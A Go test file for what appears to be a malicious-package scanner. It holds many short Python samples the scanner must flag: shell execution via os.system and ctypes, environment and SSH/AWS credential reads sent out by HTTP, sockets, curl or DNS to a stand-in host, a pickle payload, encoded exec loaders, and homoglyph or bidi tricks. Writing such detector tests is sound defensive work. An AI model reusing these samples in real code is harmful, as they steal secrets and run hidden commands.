package main

import (
	"encoding/json"
	"maps"
	"slices"
	"strings"
	"testing"
)

// scanFiles scans packages, each some files, and returns what was found of each, "rule file:line".
func scanFiles(t *testing.T, packages ...map[string]string) [][]string {
	t.Helper()
	text, err := json.Marshal(packages)
	if err != nil {
		t.Fatal(err)
	}
	var got [][]string
	ask(t, `
import scan
all = []
for files in json.loads(sys.argv[1]):
    package = scan.Package(None)
    for name, text in files.items():
        package.file(name, len(text), lambda limit, text=text: text.encode())
    package.finish()
    all.append(sorted(f"{s['rule']} {s['file']}:{s['line']}" for s in package.found))
print(json.dumps(all))
`, nil, &got, string(text))
	return got
}

// alone are packages of one module each.
func alone(texts []string) (packages []map[string]string) {
	for _, text := range texts {
		packages = append(packages, map[string]string{"p/m.py": text})
	}
	return packages
}

// scanKinds are kinds of code, each with variations: every one of a kind is found, at a line of m.py, and
// none of harmless is.
var scanKinds = []struct {
	name, rule string
	found      []string
	harmless   []string
}{
	{"ctypes", "process", []string{
		"import ctypes\nctypes.CDLL(None).system(b'id')\n",
		"import ctypes\nlibc = ctypes.CDLL(None)\nlibc.system(b'id')\n",
		"from ctypes import CDLL as load\nload('libc.so.6').popen(b'id', b'r')\n",
		"import ctypes\nctypes.cdll['libc.so.6'].system(b'id')\n",
		"import ctypes\ngetattr(ctypes.pythonapi, 'PyRun_SimpleString')(b'x')\n",
		"from ctypes import *\nimport ctypes\nlibc = ctypes.PyDLL(None)\ndef go():\n    libc.execve(b'/bin/sh', None, None)\ngo()\n",
		"import ctypes\nctypes.CDLL(None).syscall(59, b'/bin/sh', None, None)\n",
		"import ctypes\nf = ctypes.CDLL(None).system\nf(b'id')\n",
		"import cffi\nffi = cffi.FFI()\ncffi.FFI().dlopen(None).system(b'id')\n",
	}, []string{
		"import ctypes\nctypes.CDLL(None).strlen(b'x')\n",
		"import ctypes\ndef go():\n    ctypes.CDLL(None).system(b'id')\n",
		"import ctypes\nctypes.pythonapi.PyObject_GetBuffer\n",
		"import ctypes\nf = ctypes.WINFUNCTYPE(ctypes.c_int)(('GetStdHandle', ctypes.windll.kernel32))\nf(-11)\n",
		"import ctypes\nf = ctypes.PYFUNCTYPE(ctypes.c_void_p)(('PyInterpreterState_Get', ctypes.pythonapi))\nf()\n",
	}},
	{"classes", "process", []string{
		"import os\nclass M(type):\n    def __new__(c, *a):\n        os.system('id')\nclass A(metaclass=M):\n    pass\n",
		"import os\nclass M(type):\n    def __prepare__(*a):\n        os.system('id')\nclass N(M):\n    pass\nclass A(metaclass=N):\n    pass\n",
		"import os\nclass B:\n    def __init_subclass__(cls):\n        os.system('id')\nclass A(B):\n    pass\n",
		"import os\nclass B:\n    def __init_subclass__(cls):\n        os.system('id')\ntype('A', (B,), {})\n",
		"import os\nclass A:\n    os.system('id')\n",
		"import os\nclass A:\n    x = [os.system(c) for c in ('id',)]\n",
		"import os\nclass D:\n    def __set_name__(self, owner, name):\n        os.system('id')\nclass A:\n    x = D()\n",
		"import os\nclass A:\n    def __init__(self):\n        self.go()\n    def go(self):\n        os.system('id')\nA()\n",
		"import os\nclass A:\n    def __enter__(self):\n        os.system('id')\nwith A() as a:\n    pass\n",
		"import os\nclass A:\n    def go(self):\n        os.system('id')\na = A()\na.go()\n",
		"import os\nclass A:\n    @staticmethod\n    def go():\n        os.system('id')\nA.go()\n",
		"import os\nclass A:\n    def __call__(self):\n        os.system('id')\nA()()\n",
	}, []string{
		"import os\nclass A:\n    def go(self):\n        os.system('id')\na = A()\n",
		"import os\nclass M(type):\n    def other(c):\n        os.system('id')\nclass A(metaclass=M):\n    pass\n",
		"import os\nclass A:\n    def __call__(self):\n        os.system('id')\na = A()\n",
	}},
	{"definitions", "process", []string{
		"import os\ndef d(f):\n    os.system('id')\n@d\ndef g():\n    pass\n",
		"import os\ndef d(x):\n    def e(f):\n        os.system('id')\n    return e\n@d(1)\ndef g():\n    pass\n",
		"import os\ndef d(c):\n    os.system('id')\n@d\nclass A:\n    pass\n",
		"import os\nclass D:\n    def __init__(self, f):\n        os.system('id')\n@D\ndef g():\n    pass\n",
		"import os\ndef g(x=os.system('id')):\n    pass\n",
		"import os\ndef g(*, x=os.system('id')):\n    pass\n",
		"import os\ng = lambda x=os.system('id'): x\n",
		"import os\ndef g(x: os.system('id')):\n    pass\n",
		"import os\ndef g() -> os.system('id'):\n    pass\n",
		"import os\n(lambda: os.system('id'))()\n",
		"import os\nlist(map(os.system, ['id']))\n",
		"import os\nfrom threading import Thread\ndef g():\n    os.system('id')\nThread(target=g).start()\n",
		"import os, functools\nfunctools.partial(os.system, 'id')()\n",
		"from os import *\nsystem('id')\n",
		"import os, sys\nsys.modules['os'].system('id')\n",
		"import os\nvars(os)['system']('id')\n",
		"import os\nif __name__ != '__main__':\n    os.system('id')\n",
		"import os, atexit\natexit.register(os.system, 'id')\n",
	}, []string{
		"import os\ng = lambda: os.system('id')\n",
		"import os\nif __name__ == '__main__':\n    os.system('id')\n",
		"import os\ndef d(f):\n    return f\n@d\ndef g():\n    os.system('id')\n",
		"import os\ndef d(f):\n    return lambda: os.system('id')\n@d\ndef g():\n    pass\n",
	}},
	{"secrets", "secrets", []string{
		"import os, requests\ndef read():\n    return dict(os.environ)\ndef send():\n    requests.post('x', data=read())\n",
		"import os, requests\ndef read():\n    return os.environ.copy()\ndef send(what):\n    requests.post('x', data=what)\ndef go():\n    send(read())\n",
		"import os, requests\nD = None\ndef read():\n    global D\n    D = str(os.environ)\ndef send():\n    requests.post('x', json={'d': D})\n",
		"import os, requests\nclass A:\n    def read(self):\n        self.d = {**os.environ}\n    def send(self):\n        requests.post('x', data=self.d)\n",
		"import os, socket\ndef read():\n    with open(os.path.expanduser('~/.aws/credentials')) as f:\n        return f.read()\ndef send():\n    s = socket.socket()\n    d = read()\n    s.sendall(d.encode())\n",
		"import os, requests\nall = []\ndef read():\n    for k, v in os.environ.items():\n        all.append(k + v)\ndef send():\n    requests.Session().post('x', data=''.join(all))\n",
		"import os, socket\ndef read():\n    return open('/root/.ssh/id_rsa').read()\ndef send():\n    socket.gethostbyname(read()[:8] + '.example.org')\n",
		"import os, requests\ndef read():\n    yield from os.environ.items()\ndef send():\n    data = {k: v for k, v in read()}\n    requests.get('x', params=data)\n",
		"import os, urllib.request\ndef pack(d):\n    return repr(d)\ndef send(body):\n    urllib.request.urlopen('x', data=body)\nclass A:\n    def go(self):\n        x = dict(os.environ)\n        send(body=pack(x))\n",
		"import os, socket\ndef read():\n    return dict(os.environ)\ndef go():\n    os.system('curl -d %s x' % read())\n",
	}, []string{
		"import os, subprocess, requests\ndef run():\n    subprocess.run(['ls'], env=dict(os.environ))\ndef get():\n    return requests.get('x')\n",
		"import os, requests\ndef token():\n    return os.environ.get('TOKEN')\ndef get():\n    return requests.get('x', headers={'t': token()})\n",
		"import os, requests\nDOCS = 'https://docs.aws.amazon.com/'\ndef get():\n    return requests.get(DOCS)\n",
		"import os, boto3\ndef env():\n    return dict(os.environ)\ndef client():\n    return boto3.client('s3', config=env())\n",
		"import os, requests\nNETRC = ('~/.netrc', '~/_netrc')\ndef find():\n    for f in NETRC:\n        if os.path.exists(f):\n            return True\ndef get():\n    return requests.get('x')\n",
	}},
	{"data files", "hidden-code", []string{
		"exec(open('data.txt').read())\n",
		"import os\nexec(open(os.path.join(os.path.dirname(__file__), 'logo.png')).read())\n",
		"from pathlib import Path\nexec(Path(__file__).with_name('a.dat').read_text())\n",
		"import pkgutil\nexec(pkgutil.get_data(__name__, 'a.bin'))\n",
		"with open('data.txt') as f:\n    text = f.read()\nexec(compile(text, 'x', 'exec'))\n",
		"import zlib, base64\nexec(zlib.decompress(base64.b64decode(open('a.bin', 'rb').read())))\n",
		"import pickle, os\npickle.load(open(os.path.dirname(__file__) + '/a.pkl', 'rb'))\n",
		"import pickle\npickle.loads(b'cos\\nsystem\\n(S\"id\"\\ntR.')\n",
		"import shelve\nshelve.open('cache.db')\n",
		"import marshal, types\ntypes.FunctionType(marshal.load(open('a.bin', 'rb')), {})()\n",
		"import runpy\nrunpy.run_path('notes.md')\n",
		"from importlib.machinery import SourceFileLoader\nSourceFileLoader('m', 'image.gif').load_module()\n",
		"from importlib import resources\nexec(resources.files(__package__).joinpath('a.txt').read_text())\n",
		"p = 'config.ini'\nrun = exec\nrun(open(p).read())\n",
		"list(map(exec, [open('data.txt').read()]))\n",
	}, []string{
		"import os\nexec(open(os.path.join('p', '_version.py')).read())\n",
		"def execfile(name):\n    exec(compile(open(name).read(), name, 'exec'))\n",
		"import pickle\ndef load(path):\n    return pickle.load(open(path, 'rb'))\n",
		"import runpy\ndef run(path):\n    runpy.run_path(path)\n",
		"import json\njson.loads(open('data.txt').read())\n",
		"import dill\nf = open('a.txt', 'w')\ndill.loads(dill.dumps(f))\n",
		"import yaml\nyaml.load(open('a.yml'), Loader=yaml.SafeLoader)\nyaml.safe_load(open('a.yml'))\n",
		"import numpy\nnumpy.load('a.npy')\n",
		"import torch\ntorch.load('a.pt', weights_only=True)\n",
	}},
	{"layers", "hidden-code", []string{
		"import zlib, base64\nexec(zlib.decompress(base64.b64decode('x')))\n",
		"import zlib\nd = zlib.decompressobj()\nexec(zlib.decompressobj().decompress(b'x'))\n",
		"import codecs\nexec(codecs.encode('vzcbeg', 'rot13'))\n",
		"exec(bytes([105, 109, 112, 111, 114, 116, 32, 111, 115]).decode())\n",
		"k = 7\nexec(bytes(b ^ k for b in b'abc').decode())\n",
		"exec('imXport oXs'.replace('X', ''))\n",
		"import base64\nif (x := base64.b64decode('aa')):\n    exec(x)\n",
		"import base64\na, b = base64.b64decode('aa'), 1\nexec(a)\n",
		"import base64\nx = ''\nx += base64.b64decode('aa').decode()\nexec(x)\n",
		"import base64\n__builtins__['exec'](base64.b64decode('aa'))\n",
		"import base64\nexec(f'{base64.b64decode(\"aa\").decode()}')\n",
		"@exec\n@input\nclass X:\n    pass\n",
	}, []string{
		"exec('x = 1')\n",
		"import base64\nx = base64.b64decode('aa')\n",
		"eval('1 + 1'.strip())\n",
	}},
	{"invisible", "hidden-code", []string{
		"a = 1\nif a != 'user\u202e \u2066# check\u2069 \u2066':\n    pass\n",
		"# a comment \u202e that turns around\na = 1\n",
		"a = '" + strings.Repeat("\u200b\u200c", 20) + "'\n",
		"a = '" + strings.Repeat("\U000e0101\U000e0102", 20) + "'\n",
		"a = '" + strings.Repeat("\ufe0e\ufe0f", 9) + "'\n",
		"# \u2067turned\n",
		"\u0435x\u0435c = print\n",
		"import os as \u043es\n",
		"def \u0440rint(x):\n    pass\n",
		"class a:\n    v\u0430lue = 1\n",
		"f(\u0445x=1)\n",
		"\u03bfs = 1\n",
		"if role == 'adm\u0456n':\n    pass\n",
		"if role == 'ad\u200bmin':\n    pass\n",
		"x = 'a\u00adb'\n",
		"x = 'a\u2800b'\n",
		"x['us\u0435r'] = 1\n",
		"from \u043es import path\n",
		"import a as \u0430b\n",
		"url = 'https://g\u043e\u043egle.com'\n",
		"try:\n    pass\nexcept E as \u0430b:\n    pass\n",
		"match x:\n    case {'a': \u0430b}:\n        pass\n",
		"# " + strings.Repeat("\U000e0041", 9) + "\n",
	}, []string{
		"DATE_FORMAT = 'd\u200f/m\u200f/Y'\n",
		"x = '\\u200badmin'\n",
		"x = 'с Bob и Мариной'\n",
		"a = '\U0001f468\u200d\U0001f469\u200d\U0001f467'\n",
		"a = '❤\ufe0f'\n",
		"\u03c3_x = 1\n\u0394t = 2\n",
		"# привет, мир\nимя = 'сор'\n",
		"a = 'е'\n",
		"name = 'naïve'\nñ = 1\n",
	}},
}

// TestScanKinds scans variations of each kind.
func TestScanKinds(t *testing.T) {
	for _, kind := range scanKinds {
		found, harmless := scanFiles(t, alone(kind.found)...), scanFiles(t, alone(kind.harmless)...)
		for i, text := range kind.found {
			got := found[i]
			if !slices.ContainsFunc(got, func(s string) bool { return strings.HasPrefix(s, kind.rule+" p/m.py:") }) {
				t.Errorf("%s: nothing of it is found in\n%sbut %v", kind.name, text, got)
			}
		}
		for i, text := range kind.harmless {
			if got := harmless[i]; len(got) > 0 {
				t.Errorf("%s: %v is found in\n%s", kind.name, got, text)
			}
		}
	}
}

// TestScanModules has modules of a package that do together what none does alone.
func TestScanModules(t *testing.T) {
	const bad = "import os\ndef go(x=1):\n    os.system('id')\nclass C:\n    def __init__(self):\n        go()\n    def __init_subclass__(cls):\n        go()\nclass M(type):\n    def __new__(c, *a):\n        go()\n"
	const reads = "import os\ndef read():\n    return dict(os.environ)\n"
	for name, c := range map[string]struct {
		files map[string]string
		want  []string
	}{
		"a function":         {map[string]string{"p/__init__.py": "from .bad import go\ngo()\n"}, []string{"process p/__init__.py:2"}},
		"by another name":    {map[string]string{"p/__init__.py": "from p import bad as b\nb.go()\n"}, []string{"process p/__init__.py:2"}},
		"by all names":       {map[string]string{"p/__init__.py": "import p.bad\np.bad.go()\n"}, []string{"process p/__init__.py:2"}},
		"a class":            {map[string]string{"p/m.py": "from .bad import C\nC()\n"}, []string{"process p/m.py:2"}},
		"a base class":       {map[string]string{"p/m.py": "from .bad import C\nclass D(C):\n    pass\n"}, []string{"process p/m.py:2"}},
		"a metaclass":        {map[string]string{"p/m.py": "from . import bad\nclass D(metaclass=bad.M):\n    pass\n"}, []string{"process p/m.py:2"}},
		"a decorator":        {map[string]string{"p/m.py": "from .bad import go\n@go\ndef f():\n    pass\n"}, []string{"process p/m.py:2"}},
		"through a third":    {map[string]string{"p/a.py": "from .bad import go\ndef run():\n    go()\n", "p/m.py": "from .a import run\nrun()\n"}, []string{"process p/m.py:2"}},
		"passed on":          {map[string]string{"p/__init__.py": "from .bad import go\n", "p/m.py": "from p import go\ngo()\n"}, []string{"process p/m.py:2"}},
		"from below":         {map[string]string{"p/q/m.py": "from ..bad import go\ngo()\n"}, []string{"process p/q/m.py:2"}},
		"a name for it":      {map[string]string{"p/a.py": "import os\nrun = os.system\n", "p/m.py": "from .a import run\nrun('id')\n"}, []string{"process p/m.py:2"}},
		"a library":          {map[string]string{"p/a.py": "import ctypes\nlibc = ctypes.CDLL(None)\n", "p/m.py": "from .a import libc\nlibc.system(b'id')\n"}, []string{"process p/m.py:2"}},
		"all names":          {map[string]string{"p/m.py": "from .bad import *\ngo()\n"}, []string{"process p/m.py:2"}},
		"a class made":       {map[string]string{"p/m.py": "from .bad import C\nD = type('D', (C,), {})\n"}, []string{"process p/m.py:2"}},
		"an heir":            {map[string]string{"p/m.py": "from .bad import M\nclass N(M):\n    pass\nN('A', (), {})\n"}, []string{"process p/m.py:4"}},
		"in a table":         {map[string]string{"p/m.py": "from .bad import go\nHOOKS = [go]\nfor h in HOOKS:\n    h()\n"}, []string{"process p/m.py:4"}},
		"by its name":        {map[string]string{"p/m.py": "import importlib\nimportlib.import_module('.bad', __package__).go()\n"}, []string{"process p/m.py:2"}},
		"a method":           {map[string]string{"p/a.py": "import os\nclass X:\n    def go(self):\n        os.system('id')\nx = X()\n", "p/m.py": "from .a import x\nx.go()\n"}, []string{"process p/m.py:2"}},
		"what it returns":    {map[string]string{"p/a.py": "import os\ndef d(x):\n    def e(f):\n        os.system('id')\n    return e\n", "p/m.py": "from .a import d\n@d(1)\ndef f():\n    pass\n"}, []string{"process p/m.py:2"}},
		"not called":         {map[string]string{"p/m.py": "from .bad import go\ndef f():\n    go()\n"}, nil},
		"another of a name":  {map[string]string{"p/m.py": "from other import go\ngo()\n"}, nil},
		"secrets":            {map[string]string{"p/r.py": reads, "p/m.py": "import requests\nfrom .r import read\ndef f():\n    requests.post('x', data=read())\n"}, []string{"secrets p/m.py:4"}},
		"secrets by module":  {map[string]string{"p/r.py": reads, "p/m.py": "import requests\nfrom . import r\ndef f():\n    d = r.read()\n    requests.post('x', data=d)\n"}, []string{"secrets p/m.py:5"}},
		"secrets not passed": {map[string]string{"p/r.py": reads, "p/m.py": "import requests\nfrom .r import read\ndef f():\n    requests.post('x', data=1)\n    read()\n"}, nil},
	} {
		files := maps.Clone(c.files)
		files["p/bad.py"] = bad
		if got := scanFiles(t, files)[0]; !slices.Equal(got, c.want) && len(got)+len(c.want) > 0 {
			t.Errorf("%s: %v, want %v", name, got, c.want)
		}
	}
}
